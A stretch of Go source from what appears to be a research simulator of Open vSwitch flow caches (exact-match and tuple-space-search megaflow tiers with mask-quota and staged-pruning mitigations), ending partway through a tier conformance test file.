	e.keys = append(e.keys, k)
	e.entries[k] = ent
	e.Inserts++
}

// evictOne removes a pseudo-random entry. OVS's EMC is a 2-way
// hash-indexed structure where a colliding insert displaces one of two
// victims; hashing the incoming key into the dense slot array reproduces
// that "victim determined by the new key" behaviour deterministically.
func (e *EMC) evictOne(incoming flow.Key) {
	if len(e.keys) == 0 {
		return
	}
	e.evictRR = e.evictRR*6364136223846793005 + incoming.Hash()
	victimSlot := int(e.evictRR % uint64(len(e.keys)))
	victimKey := e.keys[victimSlot]
	last := len(e.keys) - 1
	e.keys[victimSlot] = e.keys[last]
	if moved, ok := e.entries[e.keys[victimSlot]]; ok && victimSlot != last {
		moved.slot = victimSlot
	}
	e.keys = e.keys[:last]
	delete(e.entries, victimKey)
	e.Evictions++
}

// Remove drops the entry for k if present.
func (e *EMC) Remove(k flow.Key) bool {
	ent, ok := e.entries[k]
	if !ok {
		return false
	}
	last := len(e.keys) - 1
	e.keys[ent.slot] = e.keys[last]
	if moved, ok2 := e.entries[e.keys[ent.slot]]; ok2 && ent.slot != last {
		moved.slot = ent.slot
	}
	e.keys = e.keys[:last]
	delete(e.entries, k)
	return true
}

// Flush empties the cache (used after policy changes).
func (e *EMC) Flush() {
	e.entries = make(map[flow.Key]*emcEntry, e.max)
	e.keys = e.keys[:0]
}
