package cache

import (
	"errors"
	"fmt"
	"math/bits"
	"sort"
	"strings"
	"sync/atomic"

	"policyinject/internal/burst"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
)

// Verdict is the cached outcome of a megaflow or microflow: the policy
// action the slow path decided.
type Verdict = flowtable.Action

// DefaultFlowLimit matches the OVS datapath default flow limit.
const DefaultFlowLimit = 200000

// ErrFlowLimit is returned by Insert when the entry limit is reached.
var ErrFlowLimit = errors.New("cache: megaflow flow limit reached")

// ErrMaskLimit is returned by Insert when a new mask would exceed the
// configured mask cap (a mitigation, not stock OVS behaviour).
var ErrMaskLimit = errors.New("cache: megaflow mask limit reached")

// MegaflowConfig tunes the megaflow cache.
type MegaflowConfig struct {
	// FlowLimit caps the number of cached entries; 0 means
	// DefaultFlowLimit, negative means unlimited.
	FlowLimit int
	// MaxMasks, when positive, caps the number of distinct masks — the
	// "mask quota" mitigation evaluated in the mitigation benches. Stock
	// OVS has no such cap. By default inserts needing a new mask beyond
	// the cap are rejected with ErrMaskLimit; with MaskEvictLRU the
	// least-recently-hit subtable is evicted instead.
	MaxMasks int
	// MaskEvictLRU selects evict-coldest-subtable behaviour at the mask
	// cap instead of rejecting new masks.
	MaskEvictLRU bool
	// SortByHits, when true, periodically reorders the subtable scan by
	// descending hit count ("sorted TSS"), OVS's pragmatic optimisation.
	// It helps skewed benign traffic and does nothing against the attack,
	// which is exactly the point the mitigation benches make.
	SortByHits bool
	// SortEvery is the number of lookups between reorderings when
	// SortByHits is set; 0 means 4096.
	SortEvery int
	// StagedPruning enables staged subtable lookups with signature and
	// L4-ports pruning plus EWMA hit-rate scan ranking — the OVS
	// countermeasure pair (classifier staged indices + ports trie) that
	// lets most subtables be rejected without a full hash probe. Lookup
	// results (hits, verdicts) are identical to the flat scan; the
	// reported scan cost becomes *physical* — subtables actually hashed —
	// instead of the flat scan position, and the SubtableVisits /
	// SubtablePrunes / StageBails counters open up. Staged pruning
	// assumes megaflows are disjoint (which slow-path synthesis
	// guarantees), since ranking reorders the scan. Overrides SortByHits.
	StagedPruning bool
	// RankEvery is the number of lookups between EWMA re-rankings of the
	// scan order when StagedPruning is set; 0 means 4096. The batched
	// sweep re-ranks only at burst boundaries.
	RankEvery int
}

// rankAlpha is the EWMA smoothing factor of the staged-pruning scan
// ranking: ewma' = alpha*hitsInWindow + (1-alpha)*ewma.
const rankAlpha = 0.25

// Entry is one cached megaflow. Hits and LastHit are the entry's
// activity accounting: on a cache built for single-goroutine use they
// are plain fields, while the sharded wrappers (ShardedMegaflow and
// friends) credit them atomically because an EMC shard's readers and a
// megaflow shard's sweeps touch the same entry under different locks.
type Entry struct {
	Match   flow.Match
	Verdict Verdict
	Hits    uint64
	Added   uint64 // logical insert time
	LastHit uint64 // logical last-hit time

	// dead is set on eviction so EMC/SMC references invalidate lazily.
	// Atomic because in sharded hierarchies the evicting shard and a
	// reference tier's reader hold different locks.
	dead atomic.Bool
}

// Dead reports whether the entry has been evicted from the megaflow cache
// (EMC references to it are stale).
func (e *Entry) Dead() bool { return e.dead.Load() }

type mfSubtable struct {
	mask    flow.Mask
	entries map[flow.Key]*Entry
	hits    uint64       // for sorted TSS
	lastHit uint64       // for LRU mask eviction
	staged  *stagedState // staged-lookup/pruning state; nil unless StagedPruning
}

// Megaflow is the TSS-based megaflow cache. Not safe for concurrent use
// on its own; ShardedMegaflow composes per-shard instances behind
// per-shard locks for the concurrent datapath.
type Megaflow struct {
	cfg       MegaflowConfig
	limit     int
	hooks     MaskHooks
	subtables []*mfSubtable // scan order
	byMask    map[flow.Mask]*mfSubtable
	nEntries  int

	// shared marks an instance owned by a sharded wrapper: entries may be
	// referenced by EMC/SMC shards guarded by *other* locks, so all
	// Hits/LastHit traffic on entries goes through atomics (creditEntry,
	// entryLastHit) even on the write-side sweeps under this instance's
	// own lock.
	shared bool

	sinceSort int
	lastRank  uint64 // Lookups value at the last EWMA re-ranking

	batchCost []int // per-key scan-cost scratch of the staged batch sweep

	// Stats
	Lookups, Hits, Misses uint64
	// MasksScanned accumulates the subtables visited across lookups; the
	// average per lookup is the paper's cost metric. With StagedPruning
	// it counts *physical* visits (stage-hash or full probes), so the
	// pruning win shows up directly.
	MasksScanned uint64

	// RunBilledScans is the portion of MasksScanned billed by AccountRun
	// for coalesced same-flow runs — logical scans with no physical
	// probe behind them. MasksScanned - RunBilledScans is the physical
	// probe count of a flat scan (the staged SubtableVisits equivalent).
	RunBilledScans uint64

	// Staged-pruning stats (zero unless StagedPruning is enabled):
	// SubtableVisits counts subtables actually costed (a stage hash or a
	// full probe ran); SubtablePrunes counts per-key visits avoided by
	// the signature/ports prefilters (burst-level skips bill one prune
	// per remaining key, so scalar and batch sweeps count identically);
	// StageBails is the subset of visits rejected at a stage-hash index
	// before the full probe; BurstSweeps counts LookupBatch sweeps.
	SubtableVisits, SubtablePrunes, StageBails, BurstSweeps uint64
}

// NewMegaflow builds a megaflow cache per cfg.
func NewMegaflow(cfg MegaflowConfig) *Megaflow {
	limit := cfg.FlowLimit
	if limit == 0 {
		limit = DefaultFlowLimit
	}
	if cfg.SortEvery == 0 {
		cfg.SortEvery = 4096
	}
	if cfg.RankEvery == 0 {
		cfg.RankEvery = 4096
	}
	if cfg.StagedPruning {
		// Staged pruning owns the scan order (EWMA ranking); hit-count
		// resorting would fight it.
		cfg.SortByHits = false
	}
	return &Megaflow{
		cfg:    cfg,
		limit:  limit,
		byMask: make(map[flow.Mask]*mfSubtable),
	}
}

// creditEntry bills one hit of ent at logical time now. Shared instances
// (sharded children) credit atomically: EMC/SMC shard readers and this
// cache's sweeps reach the same entry under different shard locks.
func (m *Megaflow) creditEntry(ent *Entry, now uint64) {
	if m.shared {
		atomic.AddUint64(&ent.Hits, 1)
		atomic.StoreUint64(&ent.LastHit, now)
		return
	}
	ent.Hits++
	ent.LastHit = now
}

// creditEntryN is creditEntry for n coalesced hits.
func (m *Megaflow) creditEntryN(ent *Entry, n uint64, now uint64) {
	if m.shared {
		atomic.AddUint64(&ent.Hits, n)
		atomic.StoreUint64(&ent.LastHit, now)
		return
	}
	ent.Hits += n
	ent.LastHit = now
}

// entryLastHit reads ent's idle clock, atomically on shared instances
// (a concurrent EMC shard hit may be refreshing it).
func (m *Megaflow) entryLastHit(ent *Entry) uint64 {
	if m.shared {
		return atomic.LoadUint64(&ent.LastHit)
	}
	return ent.LastHit
}

// Len returns the number of cached entries.
func (m *Megaflow) Len() int { return m.nEntries }

// NumMasks returns the number of distinct masks (subtables) — the paper's
// headline quantity.
func (m *Megaflow) NumMasks() int { return len(m.subtables) }

// Lookup scans the subtables in order, one hash probe per mask, returning
// the first hit. The returned scan count is the number of subtables
// visited, the direct cost measure of TSS.
func (m *Megaflow) Lookup(k flow.Key, now uint64) (*Entry, int, bool) {
	if m.cfg.StagedPruning {
		return m.lookupStaged(k, now)
	}
	m.Lookups++
	scanned := 0
	for _, st := range m.subtables {
		scanned++
		if ent, ok := st.entries[st.mask.Apply(k)]; ok {
			m.creditEntry(ent, now)
			st.hits++
			st.lastHit = now
			m.Hits++
			m.MasksScanned += uint64(scanned)
			m.maybeResort()
			return ent, scanned, true
		}
	}
	m.Misses++
	m.MasksScanned += uint64(scanned)
	m.maybeResort()
	return nil, scanned, false
}

// LookupBatch is the burst-vectorized lookup: the loop is inverted so each
// subtable is visited once per *burst* — one mask.Apply plus one hash probe
// per still-unresolved key, bitmap-masked — instead of the full subtable
// list being re-walked per packet (the dpcls_lookup structure of the OVS
// userspace datapath). Per subtable the mask and hash table stay hot in
// cache across the whole burst, which is where the win over the scalar
// walk comes from once the attacker has exploded the mask count.
//
// For every key index set in miss: a hit writes ents[i], adds the scan
// depth to costs[i] and clears the bit; a miss adds the full scan length
// to costs[i] and keeps the bit. Counter and per-entry effects equal the
// scalar Lookup sequence over the same keys. With SortByHits enabled the
// sweep falls back to per-key scalar lookups, because re-sort boundaries
// are clocked per lookup and the inverted loop would shift them mid-burst.
//
//lint:hotpath
func (m *Megaflow) LookupBatch(keys []flow.Key, now uint64, ents []*Entry, costs []int, miss *burst.Bitmap) {
	if m.cfg.StagedPruning {
		m.lookupBatchStaged(keys, now, ents, costs, miss)
		return
	}
	if m.cfg.SortByHits {
		words := miss.Words()
		for wi := range words {
			w := words[wi]
			for w != 0 {
				i := wi<<6 + bits.TrailingZeros64(w)
				w &= w - 1
				ent, cost, ok := m.Lookup(keys[i], now)
				costs[i] += cost
				if ok {
					ents[i] = ent
					miss.Clear(i)
				}
			}
		}
		return
	}
	nSub := len(m.subtables)
	for si, st := range m.subtables {
		if miss.Empty() {
			break
		}
		pos := si + 1
		mask := st.mask
		tbl := st.entries
		words := miss.Words()
		for wi := range words {
			w := words[wi]
			for w != 0 {
				i := wi<<6 + bits.TrailingZeros64(w)
				w &= w - 1
				ent, ok := tbl[mask.Apply(keys[i])]
				if !ok {
					continue
				}
				m.creditEntry(ent, now)
				st.hits++
				st.lastHit = now
				m.Lookups++
				m.Hits++
				m.MasksScanned += uint64(pos)
				ents[i] = ent
				costs[i] += pos
				miss.Clear(i)
			}
		}
	}
	// Survivors paid the full sweep: bill them exactly as scalar misses.
	if left := uint64(miss.Count()); left > 0 {
		m.Lookups += left
		m.Misses += left
		m.MasksScanned += left * uint64(nSub)
		words := miss.Words()
		for wi := range words {
			w := words[wi]
			for w != 0 {
				i := wi<<6 + bits.TrailingZeros64(w)
				w &= w - 1
				costs[i] += nSub
			}
		}
	}
}

// AccountRun bills n additional lookups that hit ent at scan depth cost
// without re-probing — the same-flow run coalescing fast path, equivalent
// to n Lookup calls for a key resident at that depth. Returns false when
// hit-count re-sorting is enabled: resorts are clocked per lookup, so
// coalesced runs would shift the re-sort boundary and the caller must fall
// back to real lookups.
func (m *Megaflow) AccountRun(ent *Entry, n int, cost int, now uint64) bool {
	if m.cfg.SortByHits {
		return false
	}
	nn := uint64(n)
	m.Lookups += nn
	m.Hits += nn
	m.MasksScanned += nn * uint64(cost)
	m.RunBilledScans += nn * uint64(cost)
	m.creditEntryN(ent, nn, now)
	if st := m.byMask[ent.Match.Mask]; st != nil {
		st.hits += nn
		st.lastHit = now
		if st.staged != nil {
			st.staged.sinceRank += nn
		}
	}
	return true
}

func (m *Megaflow) maybeResort() {
	if !m.cfg.SortByHits {
		return
	}
	m.sinceSort++
	if m.sinceSort < m.cfg.SortEvery {
		return
	}
	m.sinceSort = 0
	//lint:allow hotpathalloc re-sort is amortized over SortEvery lookups
	sort.SliceStable(m.subtables, func(i, j int) bool {
		return m.subtables[i].hits > m.subtables[j].hits
	})
	for _, st := range m.subtables {
		st.hits = 0 // decay so ordering tracks current traffic
	}
}

// Insert installs a megaflow produced by the slow path. The match is
// normalised. Inserting an entry whose masked key already exists replaces
// the stale entry (revalidation after a policy change does this).
func (m *Megaflow) Insert(match flow.Match, v Verdict, now uint64) (*Entry, error) {
	match.Normalize()
	st := m.byMask[match.Mask]
	if st == nil {
		// The flow limit gates *before* a new subtable is minted: a mask
		// with no subtable cannot hold the entry either, and creating one
		// for a rejected insert would leak an empty subtable into the scan
		// order — the attacker would keep inflating the mask count even
		// with every flow refused, which matters once the revalidator cuts
		// the limit below the covert stream's flow count.
		if m.limit > 0 && m.nEntries >= m.limit {
			return nil, ErrFlowLimit
		}
		if m.cfg.MaxMasks > 0 && len(m.subtables) >= m.cfg.MaxMasks {
			if !m.cfg.MaskEvictLRU {
				return nil, ErrMaskLimit
			}
			m.evictColdestSubtable()
		}
		// Mask admission (per-tenant quotas) gates last, after the
		// structural limits, and rejects without minting for the same
		// reason the flow limit does: a refused tenant must not inflate
		// the scan order.
		if m.hooks.Admit != nil {
			if err := m.hooks.Admit(match); err != nil {
				return nil, err
			}
		}
		st = &mfSubtable{mask: match.Mask, entries: make(map[flow.Key]*Entry), lastHit: now}
		if m.cfg.StagedPruning {
			st.staged = newStagedState(match.Mask)
		}
		m.byMask[match.Mask] = st
		m.subtables = append(m.subtables, st)
		if m.hooks.Minted != nil {
			m.hooks.Minted(match)
		}
	}
	if old, ok := st.entries[match.Key]; ok {
		if m.shared {
			// Concurrent readers may hold old: never mutate its verdict in
			// place. Equal verdicts (the common duplicate-upcall case) just
			// refresh the clocks; a changed verdict retires the entry and
			// mints a fresh one, RCU-style — stale references die via the
			// Dead check.
			if old.Verdict == v {
				old.Added = now
				atomic.StoreUint64(&old.LastHit, now)
				return old, nil
			}
			m.removeEntry(st, match.Key, old)
		} else {
			old.Verdict = v
			old.Added = now
			// Refresh the idle clock too: a just-replaced entry is as live
			// as a just-inserted one, and must not be swept by the next
			// EvictIdle.
			old.LastHit = now
			return old, nil
		}
	}
	if m.limit > 0 && m.nEntries >= m.limit {
		return nil, ErrFlowLimit
	}
	ent := &Entry{Match: match, Verdict: v, Added: now, LastHit: now}
	st.entries[match.Key] = ent
	st.addEntry(match.Key)
	m.nEntries++
	return ent, nil
}

// removeEntry is the single exit door for a resident entry: every
// eviction path funnels through it so the staged prefilters (stage
// indices, signature sets, ports tries) stay consistent with the entries
// map.
func (m *Megaflow) removeEntry(st *mfSubtable, k flow.Key, ent *Entry) {
	ent.dead.Store(true)
	delete(st.entries, k)
	st.dropEntry(k)
	m.nEntries--
}

// Remove deletes the entry with exactly the given match.
func (m *Megaflow) Remove(match flow.Match) bool {
	match.Normalize()
	st := m.byMask[match.Mask]
	if st == nil {
		return false
	}
	ent, ok := st.entries[match.Key]
	if !ok {
		return false
	}
	m.removeEntry(st, match.Key, ent)
	if len(st.entries) == 0 {
		m.dropSubtable(st)
	}
	return true
}

// evictColdestSubtable removes the least-recently-hit subtable and all of
// its entries — the LRU flavour of the mask-quota mitigation.
func (m *Megaflow) evictColdestSubtable() {
	if len(m.subtables) == 0 {
		return
	}
	coldest := m.subtables[0]
	for _, st := range m.subtables[1:] {
		if st.lastHit < coldest.lastHit {
			coldest = st
		}
	}
	for k, ent := range coldest.entries {
		m.removeEntry(coldest, k, ent)
	}
	m.dropSubtable(coldest)
}

func (m *Megaflow) dropSubtable(st *mfSubtable) {
	if m.hooks.Dropped != nil {
		m.hooks.Dropped(st.mask)
	}
	delete(m.byMask, st.mask)
	for i, have := range m.subtables {
		if have == st {
			m.subtables = append(m.subtables[:i], m.subtables[i+1:]...)
			return
		}
	}
}

// MaskHooks observe (and may veto) the lifecycle of masks — one hook
// call per subtable, every path funneled: Admit runs before a new
// subtable is minted and a non-nil error rejects the insert without
// minting; Minted runs right after a subtable is created; Dropped runs
// whenever one dies (mask-cap eviction, flow-limit trim, idle expiry,
// revalidation, or a wholesale Flush). This is the attachment point for
// per-tenant mask quota attribution (internal/guard's MaskLedger).
type MaskHooks struct {
	Admit   func(flow.Match) error
	Minted  func(flow.Match)
	Dropped func(flow.Mask)
}

// SetMaskHooks installs the mask lifecycle hooks. Hooks are fields on
// the cache rather than MegaflowConfig so the config stays comparable.
func (m *Megaflow) SetMaskHooks(h MaskHooks) { m.hooks = h }

// FlowLimit returns the current entry limit (non-positive: unlimited).
func (m *Megaflow) FlowLimit() int { return m.limit }

// SetFlowLimit adjusts the entry limit at run time — the revalidator's
// flow-limit lever (OVS's udpif flow_limit backoff). A non-positive n
// removes the limit. Cutting the limit below the resident entry count does
// not evict anything by itself: Insert starts rejecting new flows
// immediately, and the next maintenance dump calls TrimToLimit to sweep
// the stalest residents out.
func (m *Megaflow) SetFlowLimit(n int) { m.limit = n }

// TrimToLimit evicts the stalest entries — oldest LastHit, with Added and
// the match as deterministic tie-breaks — until the entry count is back
// within the flow limit, returning the eviction count. This is the
// staleness sweep a dynamic flow-limit cut triggers on the next
// revalidator dump; without it a cut below the resident count would only
// reject new inserts while the stale population squats forever.
func (m *Megaflow) TrimToLimit() int {
	if m.limit <= 0 || m.nEntries <= m.limit {
		return 0
	}
	type resident struct {
		st  *mfSubtable
		key flow.Key
		ent *Entry
	}
	all := make([]resident, 0, m.nEntries)
	for _, st := range m.subtables {
		for k, ent := range st.entries {
			all = append(all, resident{st, k, ent})
		}
	}
	sort.Slice(all, func(i, j int) bool {
		a, b := all[i].ent, all[j].ent
		if al, bl := m.entryLastHit(a), m.entryLastHit(b); al != bl {
			return al < bl
		}
		if a.Added != b.Added {
			return a.Added < b.Added
		}
		return matchLess(a.Match, b.Match)
	})
	n := m.nEntries - m.limit
	for _, r := range all[:n] {
		m.removeEntry(r.st, r.key, r.ent)
	}
	for i := 0; i < len(m.subtables); {
		if len(m.subtables[i].entries) == 0 {
			m.dropSubtable(m.subtables[i])
			continue
		}
		i++
	}
	return n
}

// matchLess orders matches lexicographically (mask, then key) so staleness
// ties trim deterministically regardless of map iteration order.
func matchLess(a, b flow.Match) bool {
	for i := range a.Mask {
		if a.Mask[i] != b.Mask[i] {
			return a.Mask[i] < b.Mask[i]
		}
	}
	for i := range a.Key {
		if a.Key[i] != b.Key[i] {
			return a.Key[i] < b.Key[i]
		}
	}
	return false
}

// EvictIdle removes entries whose LastHit is older than deadline,
// returning how many were evicted. This is the revalidator's idle-timeout
// sweep (OVS max-idle, default 10s).
func (m *Megaflow) EvictIdle(deadline uint64) int {
	evicted := 0
	for i := 0; i < len(m.subtables); {
		st := m.subtables[i]
		for k, ent := range st.entries {
			if m.entryLastHit(ent) < deadline {
				m.removeEntry(st, k, ent)
				evicted++
			}
		}
		if len(st.entries) == 0 {
			m.dropSubtable(st)
			continue // subtables slice shifted; revisit index i
		}
		i++
	}
	return evicted
}

// Revalidate re-checks every entry against the slow path via check, which
// returns the fresh verdict and whether the entry may stay. Entries whose
// verdict changed or that must go are removed; the flush count is
// returned. This models the OVS revalidator's consistency pass after
// flow-table changes.
func (m *Megaflow) Revalidate(check func(*Entry) (Verdict, bool)) int {
	flushed := 0
	for i := 0; i < len(m.subtables); {
		st := m.subtables[i]
		for k, ent := range st.entries {
			v, keep := check(ent)
			if !keep || v != ent.Verdict {
				m.removeEntry(st, k, ent)
				flushed++
			}
		}
		if len(st.entries) == 0 {
			m.dropSubtable(st)
			continue
		}
		i++
	}
	return flushed
}

// Flush drops everything.
func (m *Megaflow) Flush() {
	for _, st := range m.subtables {
		for _, ent := range st.entries {
			ent.dead.Store(true)
		}
		if m.hooks.Dropped != nil {
			m.hooks.Dropped(st.mask)
		}
	}
	m.subtables = nil
	m.byMask = make(map[flow.Mask]*mfSubtable)
	m.nEntries = 0
}

// Entries returns all cached entries, subtable scan order first.
func (m *Megaflow) Entries() []*Entry {
	out := make([]*Entry, 0, m.nEntries)
	for _, st := range m.subtables {
		for _, ent := range st.entries {
			out = append(out, ent)
		}
	}
	return out
}

// AvgMasksScanned returns the running average subtables visited per
// lookup.
func (m *Megaflow) AvgMasksScanned() float64 {
	if m.Lookups == 0 {
		return 0
	}
	return float64(m.MasksScanned) / float64(m.Lookups)
}

// String summarises cache state like `ovs-dpctl show`.
func (m *Megaflow) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "megaflow cache: %d entries, %d masks, %.2f avg masks/lookup (hit %d / miss %d)\n",
		m.nEntries, len(m.subtables), m.AvgMasksScanned(), m.Hits, m.Misses)
	if m.cfg.StagedPruning {
		total := m.SubtableVisits + m.SubtablePrunes
		pruned := 0.0
		if total > 0 {
			pruned = 100 * float64(m.SubtablePrunes) / float64(total)
		}
		fmt.Fprintf(&b, "  staged pruning: %d visited / %d pruned (%.1f%%), %d stage bails, %d burst sweeps\n",
			m.SubtableVisits, m.SubtablePrunes, pruned, m.StageBails, m.BurstSweeps)
	}
	return b.String()
}
