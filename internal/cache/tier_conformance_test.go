// Tier conformance suite: every cache tier the dataplane can stack — EMC,
// SMC, megaflow TSS — must satisfy the same behavioural contract, checked
// here against the dataplane.Tier adapters. New tier implementations
// should be added to the fixture table.
package cache_test

import (
	"testing"

	"policyinject/internal/burst"
	"policyinject/internal/cache"
	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
)

func confKey(src, dport uint64) flow.Key {
	var k flow.Key
	k.Set(flow.FieldEthType, flow.EthTypeIPv4)
	k.Set(flow.FieldIPProto, flow.ProtoTCP)
	k.Set(flow.FieldIPSrc, src)
	k.Set(flow.FieldTPDst, dport)
	return k
}

func allowVerdict() cache.Verdict { return cache.Verdict{Verdict: flowtable.Allow} }

// tierFixture builds one tier under test. seed makes key k resident with
// verdict v at time now, going through the tier's own installation route
// (InsertMegaflow for the authoritative tier, Install of a live backing
// megaflow entry for reference tiers). kill marks k's backing entry dead,
// or is nil for tiers whose entries cannot dangle.
type tierFixture struct {
	tier dataplane.Tier
	seed func(t *testing.T, k flow.Key, v cache.Verdict, now uint64) *cache.Entry
	kill func(k flow.Key)
}

func fixtures(t *testing.T) map[string]func() tierFixture {
	t.Helper()
	// Reference tiers (EMC, SMC) cache pointers into an authoritative
	// megaflow cache, exactly as they do inside the switch.
	refFixture := func(tier dataplane.Tier) tierFixture {
		backing := cache.NewMegaflow(cache.MegaflowConfig{})
		matchFor := func(k flow.Key) flow.Match {
			return flow.Match{Key: k, Mask: flow.ExactMask}
		}
		return tierFixture{
			tier: tier,
			seed: func(t *testing.T, k flow.Key, v cache.Verdict, now uint64) *cache.Entry {
				t.Helper()
				ent, err := backing.Insert(matchFor(k), v, now)
				if err != nil {
					t.Fatal(err)
				}
				tier.Install(k, ent)
				return ent
			},
			kill: func(k flow.Key) { backing.Remove(matchFor(k)) },
		}
	}
	return map[string]func() tierFixture{
		"emc": func() tierFixture {
			return refFixture(dataplane.NewEMCTier(cache.EMCConfig{}))
		},
		"smc": func() tierFixture {
			return refFixture(dataplane.NewSMCTier(cache.SMCConfig{}))
		},
		"megaflow": func() tierFixture {
			return megaflowFixture(cache.MegaflowConfig{})
		},
		// The staged-pruning megaflow variant must satisfy the exact same
		// behavioural contract — pruning is an optimisation, not a
		// semantic change.
		"megaflow-staged": func() tierFixture {
			return megaflowFixture(cache.MegaflowConfig{StagedPruning: true})
		},
	}
}

func megaflowFixture(cfg cache.MegaflowConfig) tierFixture {
	tier := dataplane.NewMegaflowTier(cfg)
	return tierFixture{
		tier: tier,
		seed: func(t *testing.T, k flow.Key, v cache.Verdict, now uint64) *cache.Entry {
			t.Helper()
			ent, err := tier.InsertMegaflow(flow.Match{Key: k, Mask: flow.ExactMask}, v, now)
			if err != nil {
				t.Fatal(err)
			}
			return ent
		},
		kill: nil, // authoritative: its entries cannot dangle
	}
}

func TestTierConformance(t *testing.T) {
	for name, build := range fixtures(t) {
		t.Run(name, func(t *testing.T) {
			t.Run("identity", func(t *testing.T) {
				f := build()
				if f.tier.Name() == "" {
					t.Error("tier has no name")
				}
				if f.tier.Path() == dataplane.PathSlow {
					t.Error("a cache tier must not report the slow path")
				}
			})

			t.Run("fresh tier misses", func(t *testing.T) {
				f := build()
				if _, _, ok := f.tier.Lookup(confKey(0x0a000001, 80), 1); ok {
					t.Fatal("empty tier reported a hit")
				}
				if f.tier.Stats().Misses == 0 {
					t.Error("miss not counted")
				}
			})

			t.Run("seeded key hits with its verdict", func(t *testing.T) {
				f := build()
				k := confKey(0x0a000001, 80)
				seeded := f.seed(t, k, allowVerdict(), 5)
				ent, _, ok := f.tier.Lookup(k, 7)
				if !ok {
					t.Fatal("seeded key missed")
				}
				if ent != seeded {
					t.Fatal("hit returned a different entry than was seeded")
				}
				if ent.Verdict != allowVerdict() {
					t.Fatalf("verdict = %v", ent.Verdict)
				}
				if ent.Hits == 0 {
					t.Error("hit did not credit the entry")
				}
				if ent.LastHit != 7 {
					t.Errorf("LastHit = %d, want 7 (hits must refresh idle state)", ent.LastHit)
				}
				st := f.tier.Stats()
				if st.Hits == 0 {
					t.Error("hit not counted in stats")
				}
				if st.Entries == 0 {
					t.Error("stats report an empty tier after a seed")
				}
			})

			t.Run("other keys still miss", func(t *testing.T) {
				f := build()
				f.seed(t, confKey(0x0a000001, 80), allowVerdict(), 1)
				if _, _, ok := f.tier.Lookup(confKey(0x0a000002, 80), 2); ok {
					t.Fatal("unseeded key hit")
				}
			})

			t.Run("flush empties the tier", func(t *testing.T) {
				f := build()
				k := confKey(0x0a000001, 80)
				f.seed(t, k, allowVerdict(), 1)
				f.tier.Flush()
				if _, _, ok := f.tier.Lookup(k, 2); ok {
					t.Fatal("hit after Flush")
				}
			})

			t.Run("evict idle does not panic and hits refresh", func(t *testing.T) {
				f := build()
				k := confKey(0x0a000001, 80)
				f.seed(t, k, allowVerdict(), 1)
				f.tier.Lookup(k, 50) // refresh
				evicted := f.tier.EvictIdle(40)
				if evicted < 0 {
					t.Fatalf("evicted = %d", evicted)
				}
				// A recently-hit entry must survive any tier's idle sweep.
				if _, _, ok := f.tier.Lookup(k, 51); !ok {
					t.Fatal("recently-hit entry evicted by idle sweep")
				}
			})

			if build().kill != nil {
				t.Run("dead references purge lazily", func(t *testing.T) {
					f := build()
					k := confKey(0x0a000001, 80)
					f.seed(t, k, allowVerdict(), 1)
					f.kill(k)
					if _, _, ok := f.tier.Lookup(k, 2); ok {
						t.Fatal("dead reference served as a hit")
					}
				})
			}
		})
	}
}

// TestBatchTierConformance pins the BatchTier contract for every tier
// that implements it: LookupBatch over a burst must be observably
// identical to the scalar Lookup sequence over the same keys — same
// hit set, same verdicts, same per-key costs, same tier counters.
func TestBatchTierConformance(t *testing.T) {
	mkKeys := func() []flow.Key {
		keys := make([]flow.Key, 0, 12)
		for i := 0; i < 12; i++ {
			keys = append(keys, confKey(uint64(0x0a000001+i), uint64(80+i%3)))
		}
		return keys
	}
	for name, build := range fixtures(t) {
		t.Run(name, func(t *testing.T) {
			seqFix, batchFix := build(), build()
			bt, ok := batchFix.tier.(dataplane.BatchTier)
			if !ok {
				t.Fatalf("tier %s does not implement BatchTier", name)
			}
			keys := mkKeys()
			// Make a subset resident in both fixtures, identically.
			resident := []int{0, 3, 4, 9, 11}
			for _, i := range resident {
				seqFix.seed(t, keys[i], allowVerdict(), 1)
				batchFix.seed(t, keys[i], allowVerdict(), 1)
			}

			// Scalar reference walk.
			type res struct {
				ok      bool
				cost    int
				verdict cache.Verdict
			}
			seq := make([]res, len(keys))
			for i, k := range keys {
				ent, cost, ok := seqFix.tier.Lookup(k, 7)
				seq[i] = res{ok: ok, cost: cost}
				if ok {
					seq[i].verdict = ent.Verdict
				}
			}

			// Vectorized walk over the same burst.
			var miss burst.Bitmap
			miss.Reset(len(keys))
			miss.SetAll()
			ents := make([]*cache.Entry, len(keys))
			costs := make([]int, len(keys))
			bt.LookupBatch(keys, flow.HashKeys(keys, nil), 7, ents, costs, &miss)

			for i := range keys {
				gotOK := !miss.Test(i)
				if gotOK != seq[i].ok {
					t.Errorf("key %d: batch hit=%v, scalar hit=%v", i, gotOK, seq[i].ok)
					continue
				}
				if costs[i] != seq[i].cost {
					t.Errorf("key %d: batch cost=%d, scalar cost=%d", i, costs[i], seq[i].cost)
				}
				if gotOK {
					if ents[i] == nil {
						t.Errorf("key %d: hit without entry", i)
					} else if ents[i].Verdict != seq[i].verdict {
						t.Errorf("key %d: batch verdict=%v, scalar=%v", i, ents[i].Verdict, seq[i].verdict)
					}
				}
			}
			if a, b := seqFix.tier.Stats(), bt.Stats(); a != b {
				t.Errorf("stats diverge:\n scalar %+v\n batch  %+v", a, b)
			}
		})
	}
}

// TestMegaflowBatchSweepMultiSubtable drives the inverted subtable sweep
// through a genuinely multi-mask table (distinct prefix lengths at
// distinct scan depths) and checks batch == sequential on hits at every
// depth, full-scan misses, costs, and cache counters.
func TestMegaflowBatchSweepMultiSubtable(t *testing.T) {
	// Disjoint prefixes, one per subtable, in insertion (= scan) order:
	// a key matching the /24 must miss the /8 and /16 first, so it pays
	// scan depth 3.
	prefixes := []struct {
		ip   uint64
		plen int
	}{
		{0x0a000000, 8},  // 10.0.0.0/8      depth 1
		{0xc0a80000, 16}, // 192.168.0.0/16  depth 2
		{0xac100500, 24}, // 172.16.5.0/24   depth 3
		{0x08080808, 32}, // 8.8.8.8/32      depth 4
	}
	build := func() *cache.Megaflow {
		m := cache.NewMegaflow(cache.MegaflowConfig{})
		for _, p := range prefixes {
			var match flow.Match
			match.Key.Set(flow.FieldIPSrc, p.ip)
			match.Mask.SetPrefix(flow.FieldIPSrc, p.plen)
			if _, err := m.Insert(match, allowVerdict(), 1); err != nil {
				t.Fatal(err)
			}
		}
		return m
	}
	keyFor := func(ip uint64) flow.Key {
		var k flow.Key
		k.Set(flow.FieldIPSrc, ip)
		return k
	}
	// Hits at every depth plus full-scan misses, interleaved.
	keys := []flow.Key{
